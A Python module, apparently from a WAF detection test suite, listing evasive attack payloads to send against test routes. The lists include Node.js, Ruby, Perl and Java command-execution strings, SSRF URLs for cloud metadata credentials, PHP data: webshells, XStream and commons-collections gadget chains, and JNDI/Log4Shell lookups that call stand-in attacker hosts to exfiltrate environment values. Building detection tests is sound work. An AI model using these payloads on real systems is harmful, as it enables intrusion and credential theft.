"""Blind set "hundredtwentysixth": the second and third choice of a penetration tester for the generic (Node.js,
SSRF, prototype pollution, Ruby, Perl, DoS, PHP data scheme), Java and server-side template injection titles,
with benign requests that carry the same words innocently.

The angle: for each detection title, what a tester or CTF player types by hand AFTER the obvious payload was
blocked: the lesser-known synonym of the keyword, function, class, operator, command, file or gadget that does
the same job (execFileSync for exec, readpipe for qx, ForClosure for InvokerTransformer, cycler for the Jinja2
config object, instance-data for 169.254.169.254), other grammar the target still accepts (other quoting,
other tag styles, whitespace and comments between Java tokens, tagged templates, square-bracket FreeMarker,
braced Velocity directives), and payloads kept as short as the target allows. Each payload names its real
target in the comment above its list (database, shell, browser, interpreter or template engine).

Families and sub-families (one per detection title; CRS 3.3.4 and the 4.x titles as remembered):
  generic: nodejs-injection-attack (934100, 1/2), nodejs-injection-attack-2-2, ssrf-cloud-metadata-url,
    ssrf-url-ip-address, javascript-prototype-pollution, ruby-injection-attack, perl-injection-attack,
    nodejs-dos-attack, php-data-scheme-attack
  java: rce-suspicious-java-class (944100), java-process-spawn (944110), java-serialization-rce (944120),
    suspicious-java-class (944130), java-magic-bytes (944200), java-magic-bytes-base64 (944210),
    java-serialization-gadget (944240), suspicious-java-method (944250), log4j-log4shell,
    malicious-class-loading, java-script-file-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field or filename, the URL path), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi)
under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body,
a raw form-typed body that is not key=value, or in User-Agent, Referer, a custom header or a cookie. Payloads
that only work as a whole body (XStream and XMLDecoder XML, fastjson and Jackson JSON, prototype-pollution JSON
documents) go as that body; raw Java serialization streams go percent-encoded (a str body cannot carry bytes);
JSP upload names go as multipart filenames.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The Java serialization streams are built here byte by byte (small, valid streams: a String, an Integer, a Long,
a String[], an empty ArrayList and the URLDNS HashMap). Measured once on unchanged code; deterministic (no clock,
no randomness).
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredtwentysixth"

# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams, built byte by byte (ObjectOutputStream's grammar, protocol version 2)
MAGIC = b"\xac\xed\x00\x05"


def _u16(n: int) -> bytes:
    return struct.pack(">H", n)


def _tstr(text: str) -> bytes:
    raw = text.encode()
    return b"t" + _u16(len(raw)) + raw


def _field(code: str, name: str) -> bytes:
    return code.encode() + _u16(len(name)) + name.encode()


def _cdesc(name: str, suid: int, flags: int, fields: list[bytes]) -> bytes:
    raw = name.encode()
    return b"r" + _u16(len(raw)) + raw + struct.pack(">q", suid) + bytes([flags]) + _u16(len(fields)) + b"".join(fields)


NUMBER = _cdesc("java.lang.Number", -8742448824652078965, 2, []) + b"xp"
SER_STRING = MAGIC + _tstr("id")
SER_NULL = MAGIC + b"p"
SER_BLOCK = MAGIC + b"w\x04\x00\x00\x00\x01"
SER_INTEGER = MAGIC + b"s" + _cdesc("java.lang.Integer", 1360826667806852920, 2, [_field("I", "value")]) + b"x" \
    + NUMBER + struct.pack(">i", 42)
SER_LONG = MAGIC + b"s" + _cdesc("java.lang.Long", 4290774380558885855, 2, [_field("J", "value")]) + b"x" \
    + NUMBER + struct.pack(">q", 42)
SER_STRING_ARRAY = MAGIC + b"u" + _cdesc("[Ljava.lang.String;", -5921575005990323385, 2, []) + b"xp" \
    + struct.pack(">i", 3) + _tstr("/bin/sh") + _tstr("-c") + _tstr("id")
SER_ARRAYLIST = MAGIC + b"s" + _cdesc("java.util.ArrayList", 8683452581122892189, 3, [_field("I", "size")]) \
    + b"xp" + struct.pack(">i", 0) + b"w\x04" + struct.pack(">i", 0) + b"x"


def _urldns(host: str) -> bytes:
    """The URLDNS gadget: a HashMap whose key is a java.net.URL with hashCode -1 (a DNS lookup on readObject)."""
    ref = b"q" + struct.pack(">i", 0x7E0003)   # the handle of "Ljava/lang/String;"
    out = MAGIC + b"s" + _cdesc("java.util.HashMap", 0x0507DAC1C31660D1, 3,
                                [_field("F", "loadFactor"), _field("I", "threshold")]) + b"xp"
    out += struct.pack(">fi", 0.75, 12) + b"w\x08" + struct.pack(">ii", 16, 1)
    out += b"s" + _cdesc("java.net.URL", -7627629688361524110, 3,
                         [_field("I", "hashCode"), _field("I", "port"),
                          _field("L", "authority") + _tstr("Ljava/lang/String;"), _field("L", "file") + ref,
                          _field("L", "host") + ref, _field("L", "protocol") + ref, _field("L", "ref") + ref]) + b"xp"
    out += struct.pack(">ii", -1, -1) + _tstr(host) + _tstr("") + _tstr(host) + _tstr("http") + b"p" + b"x"
    return out + _tstr("http://" + host) + b"x"


SER_URLDNS = _urldns("u7.dnslog.attacker.example")


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

# --- generic ---------------------------------------------------------------------------------------------------
# Node.js (v18-22) behind eval/vm or a deserializer: the child_process / process / serializer side (1/2)
NODE_1: list[Entry] = [
    "require('node:child_process').execFileSync('/usr/bin/id')+''",
    "process.mainModule.require('child_process').spawnSync('sh',['-c','id']).stdout+''",
    "module.constructor._load('child_process').fork('/tmp/x.js')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    "require('child_process')['ex'+'ecSync']('id')",
    "global['pro'+'cess'].mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "process.dlopen({exports:{}},'/tmp/evil.node')",
    "new (require('worker_threads').Worker)(\"require('child_process').execSync('id')\",{eval:true})",
    "require('inspector').open(9229,'0.0.0.0')",
    # node-serialize, funcster and cryo: the serializers' function markers
    '{"rce":"_$$ND_FUNC$$_function(){process.mainModule.require(\'child_process\').execSync(\'id\')}()"}',
    '{"__js_function":"function(){return process.mainModule.require(\'child_process\').execSync(\'id\')}"}',
    '{"root":"_CRYO_FUNCTION_function(){return process.mainModule.require(\'child_process\').execSync(\'id\')}"}',
]
# Node.js: the Function / eval / vm side (2/2)
NODE_2: list[Entry] = [
    "[].fill.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "''['constructor']['constructor']('return process')().exit()",
    "(0,eval)('process.exit(1)')",
    "Function`return process```.mainModule.require('child_process').execSync('id')",
    "Reflect.apply(Function,0,['return process'])().kill(process.pid)",
    "Object.getPrototypeOf(function*(){}).constructor('yield process')().next().value.exit()",
    "import('child_process').then(c=>c.execSync('id'))",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "new (require('vm').Script)('process.abort()').runInThisContext()",
    "eval(Buffer('cHJvY2Vzcy5leGl0KCk=','base64')+'')",
    "Function('return this')().process.mainModule.require('fs').readdirSync('/')",
    "globalThis[`process`][`exit`]()",
]
# SSRF to cloud metadata services (AWS, GCP, Azure, OpenStack, Alibaba, Oracle, DigitalOcean, Tencent, ECS)
SSRF_METADATA: list[Entry] = [
    "http://instance-data/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    "http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1.json",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://metadata.tencentyun.com/latest/meta-data/",
]
# SSRF with the host as an IP address: decimal, octal, hex, short and IPv6 forms (curl, Java URL, requests)
SSRF_IP: list[Entry] = [
    "http://2852039166/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://0xa9fea9fe/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/",
    "http://0x7f.1/",
    "http://017700000001:8080/",
    "gopher://2130706433:6379/_INFO",
    "http://127.000.000.001:11211/",
    "http://[::127.0.0.1]/",
    "dict://0:6379/info",
    "http://10.0.0.1:2375/v1.24/containers/json",
]
# prototype pollution (qs / body-parser / lodash.set / EJS gadget, Node.js)
POLLUTION: list[Entry] = [
    ("constructor[prototype][isAdmin]=1", "param-name", "rs-param-name"),
    ("a[constructor][prototype][role]=admin", "form", "rs-raw-body"),
    ("__proto__.toString=1", "param-name", "rs-param-name"),
    ("x.__proto__.polluted=yes", "form", "rs-raw-body"),
    ("__pro__proto__to__[admin]=1", "param-name", "rs-param-name"),
    ("__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;process.mainModule.require('child_process')"
     ".execSync('id')", "param-name", "rs-raw-body"),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', "json-body", "rs-json-body"),
    ('{"path":"__proto__.isAdmin","value":true}', "json-body", "rs-json-body"),
    ('{"path":["constructor","prototype","shell"],"value":"/proc/self/exe"}', "json-body", "rs-json-body"),
    ('{"a":1,"__proto__":{"sourceURL":"\\u2028\\u2029process.exit()"}}', "json-body", "rs-json-body"),
    ('{"\\u005f\\u005fproto\\u005f\\u005f":{"admin":1}}', "json-body", "rs-json-body"),
    ('[{"__proto__":{"NODE_OPTIONS":"--require /proc/self/environ"}}]', "json-body", "rs-json-body"),
]
# Ruby (MRI 2.7-3.3) behind eval / instance_eval / YAML.load
RUBY: list[Entry] = [
    "Open3.capture2e('id')",
    "Process.spawn('id')",
    "Kernel.open('|id').read",
    "IO.read('|cat /etc/passwd')",
    "Object.const_get(:Kernel).send(:system,'id')",
    "instance_eval('%x(id)')",
    "binding.eval('`id`')",
    "'id'.then{system _1}",
    "__send__(:`,'id')",
    "%x[uname -a]",
    "ERB.new('<%= `id` %>').result",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs: []\n",
]
# Perl 5 behind eval / a string interpolation
PERL: list[Entry] = [
    "readpipe('id')",
    "@{[ `id` ]}",
    "${\\ qx(id)}",
    "open(my $h,'-|','id');print <$h>;",
    "open(F,\"id|\");print<F>",
    "exec {'/bin/sh'} 'sh','-c','id'",
    "s/.*/`id`/e",
    "eval{system\"id\"}",
    "do '/tmp/x.pl'",
    "print qx'id'",
    "system(chr(105).chr(100))",
    "CORE::system 'id'",
]
# Node.js event-loop denial of service (eval / vm / a regex)
NODE_DOS: list[Entry] = [
    "for(;;);",
    "do{}while(1)",
    "while(!0);",
    "for(;1;){}",
    "while/**/(true){}",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "'a'.repeat(2**29).split('')",
    "Array(2**32-1).join('x')",
    "(function f(){process.nextTick(f)})()",
    "/^(a+)+$/.test('a'.repeat(40)+'!')",
    "setInterval(()=>{for(;;);},0)",
    "Buffer.alloc(2**31-1)",
]
# PHP (7/8) include / file_get_contents of a data: stream
PHP_DATA: list[Entry] = [
    "data:,<?php system('id');?>",
    "data://text/plain;base64," + _b64(b"<?php system($_GET[0]);?>"),
    "data:;base64," + _b64(b"<?=`id`;?>"),
    "DATA://text/plain,<?=phpinfo()?>",
    "data:text/plain,<?php echo file_get_contents('/etc/passwd');?>",
    "data://,<?=`id`?>",
    "data:application/x-httpd-php;base64," + _b64(b"<?php eval($_POST[1]);"),
    "data:text/plain;charset=us-ascii;base64," + _b64(b"<?=`id`;?>"),
    "php://filter/resource=data:,<?php passthru('id');?>",
    "compress.zlib://data:;base64," + _b64(b"<?php system($_GET[0]);?>"),
    "data:text/html,<?php $s=$_GET;`{$s[0]}`;?>",
    "data://text/plain,<?php include $_GET['f']; ?>",
]

# --- java --------------------------------------------------------------------------------------------------------
# 944100: the RCE classes through SpEL, OGNL, Nashorn, JShell, BeanShell, Java source
JAVA_RCE_CLASS: list[Entry] = [
    "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}",
    "%{@java.lang.Runtime@getRuntime().exec('id')}",
    "(#r=@java.lang.Runtime@getRuntime()).(#r.exec('id'))",
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})",
    "java . lang . Runtime . getRuntime ( ) . exec ( \"id\" )",
    "java/**/.lang/**/.Runtime.getRuntime().exec(\"id\")",
    "java.lang.\\u0052untime.getRuntime().exec(\"id\")",
    "var PB=Java.type('java.lang.ProcessBuilder');new PB('id').start()",
    "jdk.jshell.JShell.create().eval(\"java.lang.Runtime.getRuntime().exec(\\\"id\\\")\")",
    "Class.forName('java.lang.UNIXProcess')",
    "new java.lang.ProcessBuilder(\"id\").inheritIO().start().waitFor()",
    "java.lang.ProcessHandle.allProcesses().forEach(p->p.destroyForcibly())",
]
XSTREAM_2017_9805 = (
    '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.'
    'v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMes'
    'sage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><initial'
    'ized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class='
    '"javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.Pr'
    'ocessBuilder"><command><string>/bin/sh</string><string>-c</string><string>id</string></command><redirectErrorSt'
    'ream>false</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><cla'
    'ss>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter><next '
    'class="string">foo</next></serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStrea'
    'm"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><cons'
    'umed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value></jdk.nashorn.int'
    'ernal.objects.NativeString><string>x</string></entry></map>'
)
# 944110: process spawn through XStream (Struts REST), XMLDecoder (WebLogic), SpEL, OGNL, Groovy
JAVA_SPAWN: list[Entry] = [
    (XSTREAM_2017_9805, "xml", "rs-xml"),
    ('<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java'
     '.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><a'
     'ction>start</action></handler></dynamic-proxy></sorted-set>', "xml", "rs-xml"),
    ('<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHan'
     'dler"><target class="java.lang.ProcessBuilder"><command><string>touch</string><string>/tmp/p</string></command>'
     '</target><action>start</action></handler></dynamic-proxy><string>v</string></entry></tree-map>', "xml", "rs-xml"),
    ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext '
     'xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="'
     'java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string>'
     '</void><void index="2"><string>id</string></void></array><void method="start"/></object></java></work:WorkCont'
     'ext></soapenv:Header><soapenv:Body/></soapenv:Envelope>', "xml", "rs-xml"),
    "new ProcessBuilder(\"bash\",\"-c\",\"id\").redirectErrorStream(true).start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id\"})",
    "T(Runtime).getRuntime().exec('id')",
    "#{new ProcessBuilder('id').start()}",
    "(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()",
    "['sh','-c','id'].execute().text",
    "java.lang.ProcessBuilder.startPipeline(java.util.List.of(new java.lang.ProcessBuilder(\"id\")))",
    "Runtime.runtime.exec('id')",
]
CC = "org.apache.commons.collections.functors."
# 944120: commons-collections chains that end in Runtime / ProcessBuilder (XStream, XMLDecoder, BeanShell)
JAVA_SER_RCE: list[Entry] = [
    (f'<{CC}ChainedTransformer><iTransformers><{CC}ConstantTransformer><iConstant class="java-class">java.lang.Runti'
     f'me</iConstant></{CC}ConstantTransformer><{CC}InvokerTransformer><iMethodName>getMethod</iMethodName><iParamTy'
     f'pes><java-class>java.lang.String</java-class><java-class>[Ljava.lang.Class;</java-class></iParamTypes><iArgs'
     f'><string>getRuntime</string><java-class-array/></iArgs></{CC}InvokerTransformer><{CC}InvokerTransformer><iMet'
     f'hodName>exec</iMethodName><iParamTypes><java-class>java.lang.String</java-class></iParamTypes><iArgs><string>'
     f'id</string></iArgs></{CC}InvokerTransformer></iTransformers></{CC}ChainedTransformer>', "xml", "rs-xml"),
    (f'<{CC}ChainedTransformer><iTransformers><{CC}ConstantTransformer><iConstant class="java-class">java.lang.Proce'
     f'ssBuilder</iConstant></{CC}ConstantTransformer><{CC}InstantiateTransformer><iParamTypes><java-class>[Ljava.la'
     f'ng.String;</java-class></iParamTypes><iArgs><string-array><string>id</string></string-array></iArgs></{CC}Ins'
     f'tantiateTransformer></iTransformers></{CC}ChainedTransformer>', "xml", "rs-xml"),
    (f'<{CC}ForClosure><iCount>1</iCount><iClosure class="{CC}TransformerClosure"><iTransformer class="{CC}InvokerTr'
     f'ansformer"><iMethodName>exec</iMethodName><iParamTypes><java-class>java.lang.String</java-class></iParamTypes'
     f'><iArgs><string>id</string></iArgs></iTransformer></iClosure></{CC}ForClosure><java.lang.Runtime/>',
     "xml", "rs-xml"),
    (f'<{CC}WhileClosure><iPredicate class="{CC}TruePredicate"/><iClosure class="{CC}TransformerClosure"><iTransform'
     f'er class="{CC}InvokerTransformer"><iMethodName>start</iMethodName></iTransformer></iClosure><iDoLoop>true</iDo'
     f'Loop></{CC}WhileClosure><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBui'
     f'lder>', "xml", "rs-xml"),
    (f'<{CC}FactoryTransformer><iFactory class="{CC}InstantiateFactory"><iClassToInstantiate>java.lang.ProcessBuilde'
     f'r</iClassToInstantiate><iParamTypes><java-class>[Ljava.lang.String;</java-class></iParamTypes><iArgs><string-'
     f'array><string>id</string></string-array></iArgs></iFactory></{CC}FactoryTransformer>', "xml", "rs-xml"),
    ('<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime"><void '
     'method="exec"><string>id</string></void></object></java>', "xml", "rs-xml"),
    ('<java class="java.beans.XMLDecoder"><object class="java.io.FileWriter"><string>/tmp/x.sh</string><void method='
     '"write"><string>id</string></void><void method="close"/></object><object class="java.lang.Runtime" method="get'
     'Runtime"><void method="exec"><string>sh /tmp/x.sh</string></void></object></java>', "xml", "rs-xml"),
    f"new {CC}InvokerTransformer(\"exec\",new Class[]{{String.class}},new Object[]{{\"id\"}})"
    ".transform(java.lang.Runtime.getRuntime())",
    f"new {CC}ChainedTransformer(new org.apache.commons.collections.Transformer[]{{new {CC}ConstantTransformer("
    "java.lang.Runtime.getRuntime()),new " + CC + "InvokerTransformer(\"exec\",new Class[]{String.class},"
    "new Object[]{\"id\"})}).transform(null)",
    "new org.apache.commons.collections4.functors.InstantiateTransformer(new Class[]{String[].class},"
    "new Object[]{new String[]{\"id\"}}).transform(java.lang.ProcessBuilder.class).start()",
    f"{CC}PrototypeFactory.getInstance(new java.lang.ProcessBuilder(\"id\")).create()",
    "T(java.lang.Runtime).getRuntime().exec(T(java.lang.System).getProperty('cmd'))",
]
# 944130: the classes of JNDI, fastjson / Jackson gadgets, Struts, script engines
JAVA_CLASS: list[Entry] = [
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://203.0.113.9:1099/x","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://203.0.113.9/x","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSe'
     'tImpl","dataSourceName":"ldap://203.0.113.9/x","autoCommit":true}}', "json-body", "rs-json-body"),
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.9/x"}]',
     "json-body", "rs-json-body"),
    ('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://203.0.113.9/x"}]', "json-body",
     "rs-json-body"),
    ('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://203.0.113.9/x"}]', "json-body", "rs-json-body"),
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.9/x.xml"]',
     "json-body", "rs-json-body"),
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://203.0.'
     '113.9/x"}}', "json-body", "rs-json-body"),
    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}",
    "#context['com.opensymphony.xwork2.ActionContext.container']",
    "${T(java.lang.Thread).sleep(10000)}",
    "new javax.naming.InitialContext().lookup('ldap://203.0.113.9/x')",
]
# 944200: raw serialization streams (ObjectInputStream), percent-encoded because the body is text
JAVA_MAGIC: list[Entry] = [
    _latin(SER_STRING),
    _latin(SER_NULL),
    _latin(MAGIC),
    _latin(SER_BLOCK),
    _latin(SER_INTEGER),
    _latin(SER_LONG),
    _latin(SER_STRING_ARRAY),
    _latin(SER_ARRAYLIST),
    _latin(SER_URLDNS),
    _latin(b"\xfe\x01\x00\x00" + SER_INTEGER),   # WebLogic T3 framing before the stream
    _latin(b"\x00\x00\x00\x10" + SER_STRING),    # a length-prefixed frame
    _latin(SER_URLDNS + SER_STRING),             # two objects, one after the other
]
# 944210: the same streams in Base64 (ViewState, cookies, JSON fields), other alphabets and offsets
JAVA_MAGIC_B64: list[Entry] = [
    _b64(SER_STRING),
    _b64(SER_NULL),
    _b64(SER_URLDNS),
    _b64(SER_ARRAYLIST),
    _b64(SER_INTEGER),
    base64.urlsafe_b64encode(SER_URLDNS).decode().rstrip("="),
    _b64(b"\x00" + SER_STRING_ARRAY),
    _b64(b"\x00\x00" + SER_LONG),
    ("\r\n".join(base64.encodebytes(SER_URLDNS).decode().split("\n")).rstrip(), "multipart-field", "rs-form"),
    "data:application/x-java-serialized-object;base64," + _b64(SER_INTEGER),
    "base64:" + _b64(SER_STRING_ARRAY),
    " " + _b64(SER_LONG),
]
GADGET_CC4 = (
    '<java.util.PriorityQueue serialization="custom"><unserializable-parents/><java.util.PriorityQueue><default><siz'
    'e>2</size><comparator class="org.apache.commons.collections4.comparators.TransformingComparator"><decorated class'
    '="org.apache.commons.collections4.comparators.ComparableComparator"/><transformer class="org.apache.commons.col'
    'lections4.functors.InstantiateTransformer"><iParamTypes><java-class>javax.xml.transform.Templates</java-class><'
    '/iParamTypes><iArgs><null/></iArgs></transformer></comparator></default><int>3</int><java-class>com.sun.org.apa'
    'che.xalan.internal.xsltc.trax.TrAXFilter</java-class><java-class>com.sun.org.apache.xalan.internal.xsltc.trax.Tr'
    'AXFilter</java-class></java.util.PriorityQueue></java.util.PriorityQueue>'
)
# 944240: the gadget classes alone (no Runtime in sight), XMLDecoder, FileWriter, getProperty
JAVA_GADGET: list[Entry] = [
    (GADGET_CC4, "xml", "rs-xml"),
    (f'<{CC}ForClosure><iCount>3</iCount><iClosure class="{CC}NOPClosure"/></{CC}ForClosure>', "xml", "rs-xml"),
    (f'<{CC}WhileClosure><iPredicate class="{CC}TruePredicate"/><iClosure class="{CC}NOPClosure"/><iDoLoop>false</iD'
     f'oLoop></{CC}WhileClosure>', "xml", "rs-xml"),
    (f'<{CC}InstantiateFactory><iClassToInstantiate>com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter</iClassT'
     f'oInstantiate><iParamTypes><java-class>javax.xml.transform.Templates</java-class></iParamTypes></{CC}Instantiat'
     f'eFactory>', "xml", "rs-xml"),
    (f'<{CC}PrototypeFactory_-PrototypeSerializationFactory><iPrototype class="string">x</iPrototype></{CC}Prototype'
     f'Factory_-PrototypeSerializationFactory>', "xml", "rs-xml"),
    (f'<{CC}PrototypeFactory_-PrototypeCloneFactory><iPrototype class="date">1</iPrototype></{CC}PrototypeFactory_-P'
     f'rototypeCloneFactory>', "xml", "rs-xml"),
    (f'<{CC}CloneTransformer/>', "xml", "rs-xml"),
    ('<java class="java.beans.XMLDecoder"><object class="java.io.FileWriter"><string>/var/www/html/s.jsp</string><vo'
     'id method="write"><string>&lt;%out.print(application.getRealPath("/"));%&gt;</string></void><void method="clo'
     'se"/></object></java>', "xml", "rs-xml"),
    "${System.getProperty(\"java.home\")}",
    "new java.io.FileWriter('/var/www/html/x.jsp').withWriter{it << '<%out.print(1);%>'}",
    "new org.apache.commons.collections4.functors.InvokerTransformer(\"newTransformer\",null,null)",
    "new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(x.getBytes())).readObject()",
]
# 944250: reflection, method handles, native loading; java.lang.* methods from EL, SpEL, Java
JAVA_METHOD: list[Entry] = [
    "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "T(java.lang.Class).forName('java.lang.Runtime').getDeclaredMethods()",
    "java.lang.reflect.Field f=sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\");f.setAccessible(true);",
    "java.lang.invoke.MethodHandles.lookup().findVirtual(Runtime.class,\"exec\","
    "java.lang.invoke.MethodType.methodType(Process.class,String.class))",
    "java.lang.Runtime.getRuntime().load(\"/tmp/libx.so\")",
    "java.lang.System.load(\"/tmp/libx.so\")",
    "java.lang.Runtime.getRuntime().halt(0)",
    "((java.lang.ProcessBuilder)Class.forName(\"java.lang.ProcessBuilder\").getConstructor(String[].class)"
    ".newInstance(new Object[]{new String[]{\"id\"}})).start()",
    "java.lang.Runtime.getRuntime().exec(\"id\").waitFor()",
    "#{''.class.forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    "java.lang.ProcessHandle.current().pid()",
]
# Log4j 2.0-2.14 lookups: the second protocols, the lesser-known obfuscations and exfiltration lookups
LOG4J: list[Entry] = [
    "${jndi:rmi://203.0.113.9:1099/a}",
    "${jndi:dns://203.0.113.9/a}",
    "${jndi:nis://203.0.113.9/a}",
    "${${lower:jn}di:ldap://203.0.113.9/a}",
    "${${date:'j'}ndi:ldap://203.0.113.9/a}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.9/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}",
    "${${lower:${lower:jndi}}:ldap://203.0.113.9/a}",
    "${jndi:ldap://${env:USER}.${sys:java.version}.dnslog.attacker.example/a}",
    "${bundle:application:spring.datasource.password}",
    ('{"name":"\\u0024{jndi:ldap://203.0.113.9/a}"}', "json-body", "rs-json-body"),
]
# Spring (CVE-2010-1622, CVE-2022-22965), Struts 1/2 class binding, URLClassLoader, BCEL, TemplatesImpl
CLASS_LOADING: list[Entry] = [
    ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "form", "rs-raw-body"),
    ("class.module.classLoader.defaultAssertionStatus=true", "param-name", "rs-param-name"),
    ("class.classLoader.URLs[0]=jar:http://203.0.113.9/x.jar!/", "form", "rs-raw-body"),
    ("class['classLoader']['resources']['dirContext']['docBase']=//203.0.113.9/share", "param-name",
     "rs-param-name"),
    ("Class.classLoader.resources.dirContext.docBase=/", "param-name", "rs-param-name"),
    ("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", "form",
     "rs-raw-body"),
    "#{new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.9/x.jar')})"
    ".loadClass('Pwn').newInstance()}",
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.'
     'internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A"}', "json-body", "rs-json-body"),
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQAHQoABgAPCgA'
     'QABE="],"_name":"a","_tfactory":{},"_outputProperties":{}}', "json-body", "rs-json-body"),
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('yv66vgAAADQA'))",
    "Thread.currentThread().getContextClassLoader().loadClass('Evil').getDeclaredConstructor().newInstance()",
    '<mlet code="Pwn" archive="x.jar" codebase="http://203.0.113.9/"></mlet>',
]
JSP_BODY = '<%out.println(application.getServerInfo());%>'
# JSP / JSPX uploaded to Tomcat, Jetty, WebLogic (multipart filename)
JSP_UPLOAD: list[Entry] = [
    ("shell.jspx", "multipart-filename", "rs-multipart-filename"),
    ("cmd.JSP", "multipart-filename", "rs-multipart-filename"),
    ("a.jsp.", "multipart-filename", "rs-multipart-filename"),
